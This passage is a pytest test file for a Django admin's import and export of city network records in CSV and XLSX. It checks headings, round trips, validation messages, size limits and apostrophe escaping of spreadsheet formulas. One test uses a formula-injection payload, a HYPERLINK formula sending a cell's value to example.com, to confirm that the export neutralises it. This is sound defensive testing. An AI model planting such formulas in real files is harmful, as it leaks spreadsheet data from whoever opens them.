"""
Import and export of the networks in the admin, driven as a browser drives it: the export form,
then the import form with a file, its preview, and the confirmation or the cancellation.
"""

import csv
import io
import os
import stat
import tempfile
import time
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser

import openpyxl
import pytest
import tablib
from django.conf import settings
from django.contrib.admin.models import LogEntry
from django.contrib.contenttypes.models import ContentType
from django.core import signing
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.forms.models import model_to_dict
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from hypothesis import given
from hypothesis import strategies as st

from networks import admin_import, resources, search
from networks.admin_import import PendingFiles
from networks.formulas import FORMULA_STARTS, escape_formula, unescape_formula
from networks.history import Version
from networks.models import ContentVersion, Membership, Network, Theme
from networks.resources import CSV, FORMATS, MAX_ROWS, XLSX, network_columns
from networks.roles import EDITORS

from .factories import (
    MembershipFactory,
    NetworkFactory,
    StaffFactory,
    ThemeFactory,
    create_networks_in_bulk,
)

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("admin:networks_network_export")
IMPORT_URL = reverse("admin:networks_network_import")
PROCESS_URL = reverse("admin:networks_network_process_import")
CANCEL_URL = reverse("admin:networks_network_cancel_import")
CHANGELIST_URL = reverse("admin:networks_network_changelist")


def headings(language="it"):
    """Return the heading of each column by its technical name, as the export writes them."""
    with translation.override(language):
        return {column.column_name: column.header() for column in network_columns()}


# The headings the office reads, in Italian.
H = headings()


# The file, as the admin writes it and as an editor changes it.


def format_choice(file_format):
    return str(FORMATS.index(file_format))


def export(client, file_format):
    response = client.post(EXPORT_URL, {"format": format_choice(file_format)})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment;")
    return response.content


def read(content, file_format):
    """Return the rows of an exported file as dictionaries, "" for an empty cell."""
    if file_format is CSV:
        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headers, *rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [
        {header: "" if value is None else value for header, value in zip(headers, row, strict=True)}
        for row in rows
    ]


def write(rows, file_format):
    """Return a file of `rows` (dictionaries, all with the same keys) in `file_format`."""
    if file_format is CSV:
        output = io.StringIO(newline="")
        writer = csv.DictWriter(output, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
        return output.getvalue().encode()
    workbook = openpyxl.Workbook()
    workbook.active.append(list(rows[0]))
    for row in rows:
        workbook.active.append(list(row.values()))
    for row in workbook.active.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"  # a text typed as text, as a spreadsheet program keeps it
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def renamed(rows, names):
    """Return `rows` with their columns renamed by `names` ({heading: new heading})."""
    return [{names.get(key, key): value for key, value in row.items()} for row in rows]


class HiddenInputs(HTMLParser):
    """Collect the hidden fields of the confirmation form, as a browser would send them."""

    def __init__(self):
        super().__init__()
        self.fields = {}

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "input" and attrs.get("type") == "hidden" and attrs.get("name"):
            self.fields[attrs["name"]] = attrs.get("value", "")


def upload(client, content, file_format):
    """Send the file to the import form; return the preview page."""
    name = "reti.csv" if file_format is CSV else "reti.xlsx"
    return client.post(
        IMPORT_URL,
        {"format": format_choice(file_format), "import_file": SimpleUploadedFile(name, content)},
    )


def hidden_fields(preview):
    parser = HiddenInputs()
    parser.feed(preview.content.decode())
    return parser.fields


def confirm(client, preview):
    assert b'name="confirm"' in preview.content, "the preview offers no confirmation"
    return client.post(PROCESS_URL, hidden_fields(preview))


def import_file(client, content, file_format):
    """Upload, look at the preview, confirm; return the changelist the browser lands on."""
    preview = upload(client, content, file_format)
    assert preview.status_code == 200
    response = confirm(client, preview)
    assert response.status_code == 302
    assert response.url == CHANGELIST_URL, client.get(response.url).content.decode()[-2000:]
    return client.get(response.url)


def text_of(response):
    """Return what a page shows, tags left out, in single spaces: what the office reads."""

    class Text(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.parts = []

        def handle_data(self, data):
            self.parts.append(data)

    parser = Text()
    parser.feed(response.content.decode())
    return " ".join(" ".join(parser.parts).split())


# The content


@pytest.fixture(autouse=True)
def pending_folder(tmp_path, monkeypatch):
    """The temporary folder of the previews' files: this test's own."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    return tmp_path / "modena-networks-imports"


def pending(folder):
    return sorted(path.name for path in folder.iterdir()) if folder.exists() else []


@pytest.fixture
def networks():
    climate = ThemeFactory(slug="clima-ed-energia", name_it="Clima ed energia", name_en="Climate")
    youth = ThemeFactory(slug="giovani", name_it="Giovani", name_en="Youth")
    ThemeFactory(slug="cultura", name_it="Cultura", name_en="Culture")
    published = NetworkFactory(
        slug="alleanza-per-il-clima",
        name_it="Alleanza per il clima",
        name_en="Climate Alliance",
        acronym="CA",
        summary_it="Città europee per il clima.",
        summary_en="European cities for the climate.",
        description_it="Prima riga.\nSeconda riga, con “virgolette”, e virgole.",
        description_en="First line.\nSecond line.",
        website="https://www.climatealliance.org/",
        scope=Network.Scope.EUROPEAN,
        promoter_it="Alleanza per il clima",
        promoter_en="Klima-Bündnis",
        founded_year=1990,
        key_facts_it="1.800 comuni in 27 paesi",
        key_facts_en="1,800 municipalities in 27 countries",
        key_facts_date=date(2024, 3, 31),
        themes=[youth, climate],
    )
    MembershipFactory(
        network=published,
        joined_year=2002,
        sector_it="Ambiente",
        sector_en="Environment",
        public_notes_it="Modena coordina il gruppo italiano.",
        public_notes_en="Modena leads the Italian group.",
        profile_url="https://www.climatealliance.org/modena",
        department="Settore Ambiente",
        contact_person="Maria Rossi",
        annual_fee=Decimal("1250.50"),
        council_resolution="Delibera G.C. n. 123/2002",
    )
    draft = NetworkFactory(
        slug="rete-in-bozza",
        name_it="Rete in bozza",
        name_en=None,
        summary_en=None,
        description_en=None,
        website="",
        status=Network.Status.DRAFT,
        scope=Network.Scope.NATIONAL,
    )
    MembershipFactory(network=draft, joined_year=1995, left_year=2000)
    # Texts that a spreadsheet would take for a formula, and texts that look escaped already.
    NetworkFactory(
        slug="senza-adesione",
        name_it="Senza adesione",
        acronym="+39",
        promoter_it="@Comune",
        summary_en="-20% emissions",
        key_facts_it="=1+1",
        key_facts_en="'=1+1, as a spreadsheet shows a text",
        description_en="''Two apostrophes",
    )
    return Network.objects.order_by("slug")


def snapshot():
    """Return every network with its themes and memberships, field by field."""
    skipped = {"id", "network", "created_at", "updated_at", "logo", "first_published_at"}
    return [
        {
            **{k: v for k, v in model_to_dict(network).items() if k not in skipped | {"themes"}},
            "themes": sorted(theme.slug for theme in network.themes.all()),
            "memberships": [
                {k: v for k, v in model_to_dict(m).items() if k not in skipped}
                for m in network.memberships.all()
            ],
        }
        for network in Network.objects.order_by("slug")
    ]


def history_size():
    return (
        Network.history.count(),
        Membership.history.count(),
        LogEntry.objects.count(),
    )


# Export


class TestExport:
    def test_columns_are_headed_with_the_admins_labels_in_italian(self, editor_client, networks):
        headers = list(read(export(editor_client, CSV), CSV)[0])
        assert headers[:5] == [
            "Indirizzo della pagina",
            "Stato",
            "Nome (IT)",
            "Nome (EN)",
            "Sigla",
        ]
        for heading in ["Anno di fondazione", "Temi", "Anno di adesione", "Quota annuale (€)"]:
            assert heading in headers
        assert not [header for header in headers if "_" in header]  # no technical names

    def test_export_has_every_network_drafts_included_in_both_languages(
        self, editor_client, networks
    ):
        rows = read(export(editor_client, CSV), CSV)
        assert [row[H["slug"]] for row in rows] == [
            "alleanza-per-il-clima",
            "rete-in-bozza",
            "senza-adesione",
        ]
        climate, draft, _without = rows
        assert climate["Nome (IT)"] == "Alleanza per il clima"
        assert climate["Nome (EN)"] == "Climate Alliance"
        assert climate["Descrizione (IT)"] == networks[0].description_it  # quotes, commas, lines
        assert draft["Nome (EN)"] == ""

    def test_export_writes_labels_not_codes(self, editor_client, networks):
        climate, draft, _without = read(export(editor_client, CSV), CSV)
        assert (climate["Stato"], draft["Stato"]) == ("Pubblicata", "Bozza")
        assert (climate["Ambito"], draft["Ambito"]) == ("Europea", "Nazionale")
        assert climate["Temi"] == "Clima ed energia, Giovani"

    def test_export_carries_the_membership_internal_fields_included(self, editor_client, networks):
        climate = read(export(editor_client, CSV), CSV)[0]
        assert climate["Anno di adesione"] == "2002"
        assert climate["Anno di uscita"] == ""
        assert climate["Settore o ruolo (EN)"] == "Environment"
        assert climate["Settore responsabile"] == "Settore Ambiente"
        assert climate["Referente"] == "Maria Rossi"
        assert climate["Quota annuale (€)"] == "1250.50"
        assert climate["Delibera"] == "Delibera G.C. n. 123/2002"

    def test_columns_have_one_per_language_for_each_translated_text(self, editor_client, networks):
        headers = list(read(export(editor_client, CSV), CSV)[0])
        for label in ["Nome", "Sintesi", "Descrizione", "Dati principali", "Note pubbliche"]:
            for code, _name in settings.LANGUAGES:
                assert f"{label} ({code.upper()})" in headers

    def test_the_file_name_says_what_and_when(self, editor_client, networks):
        for file_format, extension in [(CSV, "csv"), (XLSX, "xlsx")]:
            response = editor_client.post(EXPORT_URL, {"format": format_choice(file_format)})
            today = timezone.localdate().isoformat()
            assert response["Content-Disposition"] == (
                f'attachment; filename="reti-{today}.{extension}"'
            )

    def test_the_export_page_lists_the_columns_by_their_headings(self, editor_client, networks):
        page = editor_client.get(EXPORT_URL).content.decode()
        assert "Indirizzo della pagina, Stato, Nome (IT), Nome (EN)" in page
        assert "name_it" not in page

    def test_xlsx_keeps_numbers_dates_and_texts_as_such(self, editor_client, networks):
        content = export(editor_client, XLSX)
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        headers = [cell.value for cell in sheet[1]]
        climate = {header: cell.value for header, cell in zip(headers, sheet[2], strict=True)}
        assert climate["Anno di fondazione"] == 1990
        assert climate[H["key_facts_date"]].date() == date(2024, 3, 31)
        assert climate["Quota annuale (€)"] == 1250.5
        formula = dict(zip(headers, sheet[4], strict=True))["Dati principali (IT)"]
        assert formula.value == "=1+1"
        assert formula.data_type == "s"
        assert sheet.title == "reti"
        assert sheet["A1"].font.bold

    def test_csv_puts_an_apostrophe_before_a_text_a_spreadsheet_would_run(
        self, editor_client, networks
    ):
        rows = {row[H["slug"]]: row for row in read(export(editor_client, CSV), CSV)}
        texts = rows["senza-adesione"]
        assert texts["Dati principali (IT)"] == "'=1+1"
        assert texts["Sigla"] == "'+39"
        assert texts["Organizzazione promotrice (IT)"] == "'@Comune"
        assert texts["Sintesi (EN)"] == "'-20% emissions"
        # One more where the text begins with an apostrophe, so that the import takes one off.
        assert texts["Dati principali (EN)"] == "''=1+1, as a spreadsheet shows a text"
        assert texts["Descrizione (EN)"] == "'''Two apostrophes"
        assert texts["Nome (IT)"] == "Senza adesione"
        climate = rows["alleanza-per-il-clima"]
        assert climate["Anno di fondazione"] == "1990"
        assert climate["Anno di adesione"] == "2002"
        assert climate["Quota annuale (€)"] == "1250.50"
        assert climate[H["key_facts_date"]] == "2024-03-31"

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_csv_neutralises_every_start_of_a_formula(self, editor_client, start):
        NetworkFactory(name_it=f'{start}HYPERLINK("https://example.com/?"&A1)')
        [row] = read(export(editor_client, CSV), CSV)
        assert row["Nome (IT)"] == f'\'{start}HYPERLINK("https://example.com/?"&A1)'

    def test_csv_keeps_negative_numbers_numbers_and_such_texts_texts(self):
        dataset = tablib.Dataset([Decimal("-12.50"), -3, "-3", None], headers=["a", "b", "c", "d"])
        content = CSV().export_data(dataset).removeprefix("\ufeff")
        assert list(csv.reader(io.StringIO(content))) == [
            ["a", "b", "c", "d"],
            ["-12.50", "-3", "'-3", ""],
        ]

    def test_xlsx_keeps_such_texts_as_they_are_in_cells_that_stay_texts(
        self, editor_client, networks
    ):
        sheet = openpyxl.load_workbook(io.BytesIO(export(editor_client, XLSX))).active
        headers = [cell.value for cell in sheet[1]]
        texts = dict(zip(headers, sheet[4], strict=True))
        for column, text in [
            ("Dati principali (IT)", "=1+1"),
            ("Sigla", "+39"),
            ("Organizzazione promotrice (IT)", "@Comune"),
            ("Sintesi (EN)", "-20% emissions"),
        ]:
            assert texts[column].value == text
            assert texts[column].data_type == "s"
            assert texts[column].quotePrefix  # as if typed after an apostrophe: edited, still text
        assert texts["Dati principali (EN)"].value == "'=1+1, as a spreadsheet shows a text"
        assert not texts["Nome (IT)"].quotePrefix

    def test_export_does_not_grow_in_queries_with_the_networks(
        self, editor_client, networks, django_assert_max_num_queries
    ):
        create_networks_in_bulk(30, [Theme.objects.first()])
        with django_assert_max_num_queries(12):
            export(editor_client, CSV)

    def test_the_list_offers_export_and_import_to_editors(self, editor_client, networks):
        content = editor_client.get(CHANGELIST_URL).content.decode()
        assert f'href="{EXPORT_URL}' in content and ">Esporta<" in content
        assert f"href='{IMPORT_URL}'" in content and ">Importa<" in content


def test_every_heading_names_one_column_in_every_language():
    known = {}
    for column in network_columns():
        for heading in column.headers():
            assert known.setdefault(heading, column.column_name) == column.column_name, heading


# Round trips


@given(st.text())
def test_the_import_takes_off_exactly_the_apostrophe_the_export_puts_before_a_text(text):
    written = escape_formula(text)
    assert not written.startswith(FORMULA_STARTS)
    assert unescape_formula(written) == text


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_export_then_import_into_an_emptied_database_gives_the_same_networks(
    administrator_client, networks, file_format
):
    before = snapshot()
    content = export(administrator_client, file_format)
    Network.objects.all().delete()
    page = import_file(administrator_client, content, file_format)
    assert "Reti nuove: 3; modificate: 0; invariate: 0." in text_of(page)
    assert snapshot() == before
    assert Theme.objects.count() == 3


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_reimporting_an_unchanged_export_offers_nothing_to_confirm(
    editor_client, networks, file_format, pending_folder
):
    content = export(editor_client, file_format)
    before, history, updated = snapshot(), history_size(), list(networks.values("updated_at"))
    preview = upload(editor_client, content, file_format)
    assert "Il file non cambia nessuna rete: non c’è nulla da importare." in text_of(preview)
    assert "Reti invariate: 3" in text_of(preview)
    assert b'name="confirm"' not in preview.content
    assert pending(pending_folder) == []
    assert snapshot() == before
    assert history_size() == history
    assert list(networks.values("updated_at")) == updated


def test_reimporting_the_demo_content_changes_nothing(editor_client):
    call_command("loaddata", "demo", verbosity=0)
    content = export(editor_client, CSV)
    before, history = snapshot(), history_size()
    preview = upload(editor_client, content, CSV)
    assert "non c’è nulla da importare" in text_of(preview)
    assert snapshot() == before
    assert history_size() == history


def test_a_file_exported_before_with_technical_headings_and_codes_imports_the_same(
    administrator_client, networks
):
    """Files written before the headings were in Italian: slugs, codes, `name_it` columns."""
    before = snapshot()
    rows = read(export(administrator_client, CSV), CSV)
    technical = renamed(rows, {heading: name for name, heading in H.items()})
    for row in technical:
        row["status"] = {"Pubblicata": "published", "Bozza": "draft"}[row["status"]]
        row["scope"] = {"Europea": "european", "Nazionale": "national"}.get(
            row["scope"], "international"
        )
    technical[0]["themes"] = "clima-ed-energia,giovani"
    Network.objects.all().delete()
    import_file(administrator_client, write(technical, CSV), CSV)
    assert snapshot() == before


def test_english_headings_and_labels_are_read_too(administrator_client, networks):
    before = snapshot()
    english = headings("en")
    rows = renamed(
        read(export(administrator_client, XLSX), XLSX), {H[name]: english[name] for name in H}
    )
    assert "Name (IT)" in rows[0] and "Year joined" in rows[0]
    rows[0]["Status"] = "published"
    rows[0]["Themes"] = "climate, YOUTH"
    rows[0]["Scope"] = "European"
    Network.objects.all().delete()
    import_file(administrator_client, write(rows, XLSX), XLSX)
    assert snapshot() == before


class TestLineBreaks:
    """Browsers send CR LF inside a text area: the admin stores texts that way."""

    @pytest.fixture
    def network(self, networks):
        network = networks.get(slug="alleanza-per-il-clima")
        network.description_it = "Prima riga.\r\nSeconda riga."
        network.save()
        return network

    def test_csv_keeps_them_exactly(self, administrator_client, network):
        content = export(administrator_client, CSV)
        Network.objects.all().delete()
        import_file(administrator_client, content, CSV)
        assert Network.objects.get(slug=network.slug).description_it == network.description_it

    def test_xlsx_which_stores_only_lf_does_not_count_them_as_a_change(
        self, editor_client, network
    ):
        content = export(editor_client, XLSX)
        history = history_size()
        assert "non c’è nulla da importare" in text_of(upload(editor_client, content, XLSX))
        assert Network.objects.get(slug=network.slug).description_it == network.description_it
        assert history_size() == history


# Changes through a file


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_import_updates_a_network_and_its_membership_like_an_edit(
    administrator_client, networks, file_format
):
    rows = read(export(administrator_client, file_format), file_format)
    rows[0]["Sintesi (EN)"] = "Cities acting on climate change with their forests."
    rows[0]["Anno di uscita"] = "2024"
    rows[0]["Temi"] = "Cultura"

    page = import_file(administrator_client, write(rows, file_format), file_format)

    assert "Reti nuove: 0; modificate: 1; invariate: 2." in text_of(page)
    network = Network.objects.get(slug="alleanza-per-il-clima")
    assert network.summary_en == "Cities acting on climate change with their forests."
    assert [theme.slug for theme in network.themes.all()] == ["cultura"]
    membership = network.memberships.get()
    assert (membership.joined_year, membership.left_year) == (2002, 2024)
    assert membership.department == "Settore Ambiente"
    found = administrator_client.get("/en/networks/", {"q": "forests"})
    assert "Climate Alliance" in found.content.decode()
    entry = LogEntry.objects.get(object_id=str(network.pk))
    assert "Sintesi (EN)" in entry.get_change_message()


def test_each_changed_network_gets_one_version_with_its_themes_as_saved(
    administrator_client, administrator, networks
):
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Temi"] = "Cultura, Giovani"
    rows[0]["Anno di uscita"] = "2024"
    rows[1]["Sigla"] = "RB"
    versions = {network.slug: network.history.count() for network in networks}
    memberships = Membership.history.count()
    import_file(administrator_client, write(rows, CSV), CSV)

    assert {network.slug: network.history.count() for network in networks} == {
        "alleanza-per-il-clima": versions["alleanza-per-il-clima"] + 1,
        "rete-in-bozza": versions["rete-in-bozza"] + 1,
        "senza-adesione": versions["senza-adesione"],  # unchanged: no version
    }
    climate = networks.get(slug="alleanza-per-il-clima")
    record = climate.history.first()
    assert (record.history_type, record.history_user) == ("~", administrator)
    version = Version.of(record)
    assert sorted(theme.slug for theme in version.themes) == ["cultura", "giovani"]
    assert [m.left_year for m in version.memberships] == [2024]
    assert Membership.history.count() == memberships + 1  # the one membership that changed
    assert climate.memberships.get().history.first().history_user == administrator


def test_a_new_network_gets_its_first_version(administrator_client, administrator, networks):
    rows = read(export(administrator_client, CSV), CSV)
    new = dict.fromkeys(rows[0], "")
    new.update(
        {
            H["slug"]: "eurodesk",
            "Stato": "Pubblicata",
            "Nome (IT)": "Eurodesk",
            "Sintesi (IT)": "La rete di informazione europea per i giovani.",
            "Descrizione (IT)": "Descrizione.",
            "Ambito": "Europea",
            "Temi": "Giovani",
            "Anno di adesione": "2007",
        }
    )
    import_file(administrator_client, write([*rows, new], CSV), CSV)
    network = Network.objects.get(slug="eurodesk")
    [record] = network.history.all()
    assert (record.history_type, record.history_user) == ("+", administrator)
    assert [theme.slug for theme in Version.of(record).themes] == ["giovani"]
    assert network.first_published_at is not None
    [membership] = network.memberships.all()
    assert membership.history.get().history_type == "+"


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_import_adds_a_network_from_a_new_row(editor_client, networks, file_format):
    rows = read(export(editor_client, file_format), file_format)
    new = dict.fromkeys(rows[0], "")
    new.update(
        {
            H["slug"]: "eurodesk",
            "Stato": "bozza",
            "Nome (IT)": "Eurodesk",
            "Sintesi (IT)": "La rete di informazione europea per i giovani.",
            "Descrizione (IT)": "Descrizione.",
            "Ambito": "europea",
            "Temi": "giovani, Cultura",
            "Anno di adesione": "2007",
            "Settore o ruolo (IT)": "Politiche giovanili",
            "Quota annuale (€)": "1.200,00",
        }
    )
    import_file(editor_client, write([*rows, new], file_format), file_format)
    network = Network.objects.get(slug="eurodesk")
    assert network.name_it == "Eurodesk"
    assert network.name_en is None  # as the admin stores an empty English text
    assert (network.status, network.scope) == ("draft", "european")
    assert sorted(theme.slug for theme in network.themes.all()) == ["cultura", "giovani"]
    membership = network.memberships.get()
    assert membership.joined_year == 2007
    assert membership.annual_fee == Decimal("1200.00")
    assert search.matching(Network.objects.all(), "politiche giovanili", ["it"]).get() == network
    assert LogEntry.objects.filter(object_id=str(network.pk)).get().is_addition()


def test_a_changed_name_is_stored_as_a_save_stores_it(administrator_client, networks):
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Nome (IT)"] = "Alleanza dei comuni per il clima"
    import_file(administrator_client, write(rows, CSV), CSV)
    with connection.cursor() as cursor:  # modeltranslation's column of the untranslated name
        cursor.execute("SELECT name FROM networks_network WHERE slug = 'alleanza-per-il-clima'")
        assert cursor.fetchone() == ("Alleanza dei comuni per il clima",)


def test_a_theme_name_with_a_comma_is_read_whole(administrator_client, networks):
    ThemeFactory(slug="pace", name_it="Pace, diritti umani", name_en="Peace")
    rows = read(export(administrator_client, CSV), CSV)
    rows[2]["Temi"] = "Pace, diritti umani, Giovani"
    import_file(administrator_client, write(rows, CSV), CSV)
    themes = networks.get(slug="senza-adesione").themes.all()
    assert sorted(theme.slug for theme in themes) == ["giovani", "pace"]


def test_import_leaves_older_memberships_alone(administrator_client, networks):
    network = networks.get(slug="alleanza-per-il-clima")
    older = MembershipFactory(network=network, joined_year=1995, left_year=1999)
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Referente"] = "Luca Bianchi"
    import_file(administrator_client, write(rows, CSV), CSV)
    assert network.memberships.count() == 2
    assert network.memberships.get(left_year__isnull=True).contact_person == "Luca Bianchi"
    assert Membership.objects.get(pk=older.pk).contact_person == ""


def test_after_an_import_the_public_pages_and_the_search_show_the_new_content(
    administrator_client, networks
):
    visitor = Client()
    for path in ["/it/reti/", "/it/reti/alleanza-per-il-clima/"]:
        assert "Alleanza per il clima" in visitor.get(path).content.decode()  # now cached
    version = ContentVersion.current()
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Nome (IT)"] = "Alleanza dei comuni per il clima"
    import_file(administrator_client, write(rows, CSV), CSV)
    assert ContentVersion.current() > version
    for path in ["/it/reti/", "/it/reti/alleanza-per-il-clima/", "/it/reti/?q=comuni+clima"]:
        assert "Alleanza dei comuni per il clima" in visitor.get(path).content.decode()


def confirmation_queries(client, rows):
    preview = upload(client, write(rows, CSV), CSV)
    # Django keeps the content types it has read for the life of the process: each count starts
    # without them, so that it does not depend on the tests that ran before.
    ContentType.objects.clear_cache()
    with CaptureQueriesContext(connection) as queries:
        assert confirm(client, preview).url == CHANGELIST_URL
    return len(queries)


def test_the_confirmation_takes_as_many_queries_for_thirty_networks_as_for_three(
    administrator_client, networks
):
    for _number in range(33):
        MembershipFactory(network=NetworkFactory(themes=[Theme.objects.first()]))
    rows = [
        row
        for row in read(export(administrator_client, CSV), CSV)
        if row[H["slug"]].startswith("rete-")
    ]
    for row in rows:
        row["Sintesi (IT)"] += " Modificata."
        row["Temi"] = "Cultura, Giovani"
        row["Referente"] = "Ada"
    assert confirmation_queries(administrator_client, rows[:3]) == confirmation_queries(
        administrator_client, rows[3:]
    )


# Errors: shown in Italian in the preview beside their row, and nothing is saved.


def rejected(client, rows, file_format=CSV):
    """Upload `rows`; check that no confirmation is offered and nothing changed; return the text."""
    before, history = snapshot(), history_size()
    preview = upload(client, write(rows, file_format), file_format)
    assert preview.status_code == 200
    assert b'name="confirm"' not in preview.content
    assert snapshot() == before
    assert history_size() == history
    return text_of(preview)


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_an_unknown_theme_is_an_error_beside_its_row(editor_client, networks, file_format):
    rows = read(export(editor_client, file_format), file_format)
    rows[0]["Sintesi (EN)"] = "A change that must not be saved."
    rows[1]["Temi"] = "Giovani, temi inventati"
    text = rejected(editor_client, rows, file_format)
    assert "Righe con errori" in text
    # The row's number in the spreadsheet, its network, the column, the cell, the message.
    assert "3 Rete in bozza Temi Giovani, temi inventati Tema sconosciuto: temi inventati." in text


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("founded_year", "1700", "L’anno deve essere compreso tra il 1850 e il 2100."),
        (
            "membership_joined_year",
            "2200",
            "L’anno deve essere compreso tra il 1850 e il 2100.",
        ),
        ("membership_left_year", "1999", "L’anno di uscita non può precedere l’anno di adesione."),
        ("founded_year", "novanta", "Scrivere l’anno con le quattro cifre, per esempio 2015."),
        ("key_facts_date", "31 marzo", "Scrivere la data come anno-mese-giorno"),
        ("membership_annual_fee", "mille", "Scrivere l’importo come numero"),
        ("status", "archiviata", "«archiviata» non è tra le scelte possibili"),
        (
            "scope",
            "mondiale",
            "«mondiale» non è tra le scelte possibili: "
            "scrivere «Internazionale», «Europea» o «Nazionale».",
        ),
        ("name_it", "", "Questo campo è obbligatorio."),
    ],
)
def test_a_wrong_value_is_an_error_in_italian(editor_client, networks, column, value, message):
    rows = read(export(editor_client, CSV), CSV)
    rows[1]["Sintesi (EN)"] = "A change that must not be saved."
    rows[0][H[column]] = value
    text = rejected(editor_client, rows)
    assert message in text
    assert f"{H[column]} {value or 'vuoto'} {message}" in text  # beside its column and cell


def test_clearing_a_membership_in_the_file_is_refused(editor_client, networks):
    rows = read(export(editor_client, CSV), CSV)
    membership_headings = [H[name] for name in H if name.startswith("membership_")]
    for heading in membership_headings:
        rows[0][heading] = ""
    assert "La rete ha un’adesione attiva" in rejected(editor_client, rows)


def test_two_rows_with_one_slug_are_refused(editor_client, networks):
    rows = read(export(editor_client, CSV), CSV)
    assert "Anche la riga 2 ha questo slug" in rejected(editor_client, [*rows, rows[0]])


def test_a_file_without_slugs_is_refused(editor_client, networks):
    text = rejected(editor_client, [{"Nome (IT)": "Rete senza indirizzo"}])
    assert "Il file non ha la colonna «Indirizzo della pagina»" in text


def test_a_column_given_twice_is_refused(editor_client, networks):
    rows = read(export(editor_client, CSV), CSV)
    rows = [{**row, "name_it": row["Nome (IT)"]} for row in rows]
    assert "Il file ha due volte la colonna «Nome (IT)»" in rejected(editor_client, rows)


def test_columns_the_import_does_not_know_are_named_and_left_out(administrator_client, networks):
    rows = read(export(administrator_client, CSV), CSV)
    rows = [{**row, "Note mie": "da ricontrollare"} for row in rows]
    rows[0]["Sigla"] = "CA-EU"
    preview = upload(administrator_client, write(rows, CSV), CSV)
    assert "Colonne che l’importazione non conosce, tralasciate: Note mie" in text_of(preview)
    confirm(administrator_client, preview)
    assert networks.get(slug="alleanza-per-il-clima").acronym == "CA-EU"


def test_a_file_that_fails_at_the_confirmation_saves_nothing(administrator_client, networks):
    """A theme deleted between the preview and the confirmation: not even the good rows."""
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Sintesi (EN)"] = "A change that must not be saved."
    rows[2]["Temi"] = "Cultura"
    history = history_size()
    preview = upload(administrator_client, write(rows, CSV), CSV)
    Theme.objects.filter(slug="cultura").delete()
    before = snapshot()
    response = confirm(administrator_client, preview)
    assert response.status_code == 302
    page = administrator_client.get(response.url).content.decode()
    assert "L’importazione è stata annullata" in page
    assert snapshot() == before
    assert history_size() == history


def test_a_csv_saved_by_an_italian_excel_is_read(administrator_client, networks):
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Sintesi (IT)"] = "Città, comuni e unioni per il clima."
    output = io.StringIO(newline="")
    writer = csv.DictWriter(output, fieldnames=list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    import_file(administrator_client, output.getvalue().encode("cp1252", errors="replace"), CSV)
    assert networks.get(slug="alleanza-per-il-clima").summary_it == rows[0]["Sintesi (IT)"]


# Limits: a file too large is refused with a message, before it is read whole.


def form_errors(response):
    assert response.status_code == 200
    errors = response.context["form"].errors.get("import_file", [])
    return " ".join(str(error) for error in errors).replace("\xa0", " ")


def test_a_file_over_five_megabytes_is_refused_before_it_is_read(
    editor_client, networks, monkeypatch
):
    def unread(*args, **kwargs):
        raise AssertionError("a file over the limit was read")

    monkeypatch.setattr(CSV, "create_dataset", unread)
    content = b"a" * (5 * 1024 * 1024 + 1)
    errors = form_errors(upload(editor_client, content, CSV))
    assert "Il file pesa 5,0 MB: importare al massimo 5,0 MB alla volta" in errors


@pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
def test_a_file_of_more_than_five_thousand_networks_is_refused(
    editor_client, networks, file_format
):
    rows = [{H["slug"]: f"rete-{number}"} for number in range(MAX_ROWS + 1)]
    errors = form_errors(upload(editor_client, write(rows, file_format), file_format))
    assert "Il file ha più di 5.000 reti: importarne al massimo 5.000 alla volta" in errors
    assert Network.objects.count() == 3


def test_five_thousand_networks_are_read():
    rows = [["slug"], *([f"rete-{number}"] for number in range(MAX_ROWS)), [""], [None]]
    assert len(resources.table(rows)) == MAX_ROWS


def test_an_xlsx_that_unpacks_too_large_is_refused(editor_client, networks, monkeypatch):
    monkeypatch.setattr(resources, "MAX_UNPACKED_BYTES", 1000)
    content = export(editor_client, XLSX)
    errors = form_errors(upload(editor_client, content, XLSX))
    assert "Il file XLSX contiene troppi dati" in errors


def test_a_file_in_another_format_than_chosen_is_refused_with_a_message(editor_client, networks):
    content = export(editor_client, CSV)
    assert "Questo non è un file XLSX" in form_errors(upload(editor_client, content, XLSX))
    too_long = b"slug\n" + b"x" * (csv.field_size_limit() + 1)
    assert "Il file non si legge come csv" in form_errors(upload(editor_client, too_long, CSV))
    assert "Il file non ha la colonna" in text_of(upload(editor_client, b"PK\x03\x04\x00\xff", CSV))
    assert "Il file è vuoto" in form_errors(upload(editor_client, b"\n\n", CSV))


# The uploaded file between the preview and the confirmation


def test_the_preview_keeps_the_file_for_its_user_only_until_confirmed(
    administrator_client, networks, pending_folder
):
    rows = read(export(administrator_client, CSV), CSV)
